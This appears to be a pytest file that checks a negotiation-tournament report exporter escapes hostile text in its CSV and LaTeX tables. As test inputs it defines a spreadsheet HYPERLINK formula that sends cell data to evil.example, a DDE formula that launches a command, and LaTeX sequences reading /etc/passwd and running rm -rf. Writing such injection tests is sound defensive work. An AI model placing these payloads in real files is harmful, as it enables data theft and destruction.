"""Hostile text in the report's exported tables stays data: no CSV cell a spreadsheet would run
as a formula, no LaTeX control sequence from an agent id, a game or an error message."""

from __future__ import annotations

import csv
import re
from pathlib import Path

import pandas as pd
import pytest

from lamen.judge import judge
from lamen.report import write_report
from lamen.report.export import write_match_table, write_table
from lamen.spec.load import load_game, load_protocol
from lamen.store import MatchRecord, Store
from lamen.text_safety import latex
from lamen.transcript import Transcript, Turn

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"ok")'
AT_FORMULA = "@SUM(1+1)*cmd|' /C calc'!A0"
TEX = r"\input{/etc/passwd}\def\x{}_50%&#$^~"
NUMBER_LIKE = ("-3", "+4.5", "-1e-3")  # plain numbers stay numbers
FORMULA_START = re.compile(r"^[=+\-@\t\r]")
NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def test_csv_cells_labels_and_index_are_neutralised(tmp_path: Path) -> None:
    frame = pd.DataFrame({"agent": [FORMULA, AT_FORMULA, "+cmd", *NUMBER_LIKE], "score": [1.0, 2.0, 3.0, 4.0, 5.0, 6.0]},
                         index=pd.Index(["-x", "b", "c", "d", "e", "f"], name="=row"))
    table = write_table(frame.rename(columns={"score": "@score"}), tmp_path, "t", "caption", index=True)
    rows = list(csv.reader(table.csv.open(encoding="utf-8")))
    assert rows == [
        ["'=row", "agent", "'@score"],
        ["'-x", "'" + FORMULA, "1.0"],
        ["b", "'" + AT_FORMULA, "2.0"],
        ["c", "'+cmd", "3.0"],
        ["d", "-3", "4.0"],
        ["e", "+4.5", "5.0"],
        ["f", "-1e-3", "6.0"],
    ]


def test_the_match_table_csv_is_neutralised(tmp_path: Path) -> None:
    matches = pd.DataFrame({"match_id": ["m1"], "agent_a": [FORMULA], "error": [AT_FORMULA], "u_a": [-0.5]})
    csv_path = write_match_table(matches, tmp_path)[0]
    assert list(csv.reader(csv_path.open(encoding="utf-8"))) == [
        ["match_id", "agent_a", "error", "u_a"], ["m1", "'" + FORMULA, "'" + AT_FORMULA, "-0.5"]]


def test_latex_cells_labels_and_caption_are_escaped(tmp_path: Path) -> None:
    pytest.importorskip("jinja2", reason="pandas' to_latex needs jinja2")
    frame = pd.DataFrame({"agent": [TEX, "plain\x1b[31m\x00"], "U*": [0.5, None]},
                         index=pd.Index([r"\write18{rm -rf ~}", "b"], name="a_b"))
    table = write_table(frame, tmp_path, "t", r"U* of \emph{row} & 100%", index=True)
    assert table.tex is not None
    assert table.tex.read_text(encoding="utf-8").splitlines() == [
        r"\begin{table}",
        r"\caption{U* of \textbackslash{}emph\{row\} \& 100\%}",
        r"\label{tab:t}",
        r"\begin{tabular}{llr}",
        r"\toprule",
        r" & agent & U* \\",
        r"a\_b &  &  \\",
        r"\midrule",
        r"\textbackslash{}write18\{rm -rf \textasciitilde{}\} & \textbackslash{}input\{/etc/passwd\}"
        r"\textbackslash{}def\textbackslash{}x\{\}\_50\%\&\#\$\textasciicircum{}\textasciitilde{} & 0.500 \\",
        r"b & plain[31m & -- \\",
        r"\bottomrule",
        r"\end{tabular}",
        r"\end{table}",
    ]


def hostile_db(folder: Path) -> Path:
    """Two agents whose ids are a spreadsheet formula and LaTeX code, one finished match and one
    errored with a provider message that is a formula too."""
    game, protocol = load_game("rental-1-distributive"), load_protocol("default")
    path = folder / "tournament.db"
    store = Store(path)
    store.save_tournament("hostile", {"name": "hostile"}, [{"id": FORMULA, "provider": "bot", "model": "linear"},
                                                          {"id": TEX, "provider": "bot", "model": "conceder"}])

    def record(match_id: str, starts: int, position: int) -> MatchRecord:
        return MatchRecord(id=match_id, stage="cross", game=game.name, game_class="competitive", protocol="default",
                           agent_a=FORMULA, agent_b=TEX, starts=starts, repetition=0, mirror=0,
                           block=f"cross|{game.name}|{FORMULA}|{TEX}|0", seed=0, position=position)

    spec = {"game": game.model_dump(mode="json")}
    store.plan("hostile", [(record("m1", 0, 0), spec), (record("m2", 1, 1), spec)])
    note = 'Acceptable offer: {"rent": "$1000"}'
    turns = (Turn(side=0, round=1, note=note, message="Rent $1000."),
             Turn(side=1, round=1, note=note, message="We agree on all issues."),
             Turn(side=0, round=2, note=note, message="We agree on all issues."))
    finished = Transcript(game=game.name, agents=(FORMULA, TEX), turns=turns, end_reason="agreement")
    store.save_match("m1", finished, judge(finished, game, protocol))
    errored = Transcript(game=game.name, agents=(FORMULA, TEX), turns=turns[:1], end_reason="error",
                         error=AT_FORMULA)
    store.save_match("m2", errored, judge(errored, game, protocol))
    store.close()
    return path


def test_every_exported_file_of_a_report_is_inert(tmp_path: Path) -> None:
    report = write_report(hostile_db(tmp_path), replicates=20, orderings=2)
    csv_files = [table.csv for table in report.tables] + [p for p in report.files if p.suffix == ".csv"]
    assert len(csv_files) > 5
    cells = 0
    for path in csv_files:
        for row in csv.reader(path.open(encoding="utf-8")):
            for cell in row:
                cells += 1
                assert not FORMULA_START.match(cell) or NUMBER.fullmatch(cell), f"{path.name}: {cell!r}"
    assert cells > 100
    leaderboard = (tmp_path / "tables" / "leaderboard.csv").read_text(encoding="utf-8")
    assert "'=HYPERLINK(" in leaderboard
    tex_files = [table.tex for table in report.tables if table.tex is not None]
    if not tex_files:
        pytest.skip("pandas' to_latex needs jinja2")
    shown = 0
    for path in tex_files:
        text = path.read_text(encoding="utf-8")
        assert "\\input{" not in text and "\\def\\x" not in text and "\x00" not in text, path.name
        shown += text.count(latex(TEX))
    assert shown > 0  # the agent id is in the tables, escaped
